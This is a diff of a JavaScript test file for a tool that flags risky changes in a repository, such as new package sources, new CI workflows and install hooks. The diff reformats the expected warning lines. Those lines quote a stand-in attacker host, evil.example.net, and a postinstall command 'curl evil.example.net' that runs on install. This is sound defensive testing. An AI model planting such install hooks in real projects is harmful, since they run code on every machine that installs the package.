@@ -173,8 +173,8 @@ describe('of files that are not content', () => {
     writeFileSync(join(folder, 'package.json'), '{"dependencies":{"b":"github:someone/b"}}\n');
     commitAll(folder, 'Change');
     expect(fileLines(folder)).toEqual([
-      '    - package-lock.json +1 −1; new source of packages: evil.example.net',
-      '    - package.json new, +1; new source of packages: github:someone/b (b)',
+      '    - New source of packages: evil.example.net. (package-lock.json +1 −1)',
+      '    - New source of packages: github:someone/b (b). (package.json new, +1)',
     ]);
   });
 
@@ -187,9 +187,9 @@ describe('of files that are not content', () => {
     writeFileSync(join(folder, 'public/new.js'), 'fetch();\n');
     commitAll(folder, 'Change');
     expect(fileLines(folder)).toEqual([
-      '    - .github/workflows/new.yml new, +1; runs with the rights of this repository',
-      '    - package.json new, +1; new or changed commands: postinstall: curl evil.example.net, which runs by itself on every computer that installs the project',
-      '    - public/new.js new, +1; is published as it is',
+      '    - Runs with the rights of this repository. (.github/workflows/new.yml new, +1)',
+      '    - New or changed commands: postinstall: curl evil.example.net, which runs by itself on every computer that installs the project. (package.json new, +1)',
+      '    - Is published as it is. (public/new.js new, +1)',
     ]);
   });
 });
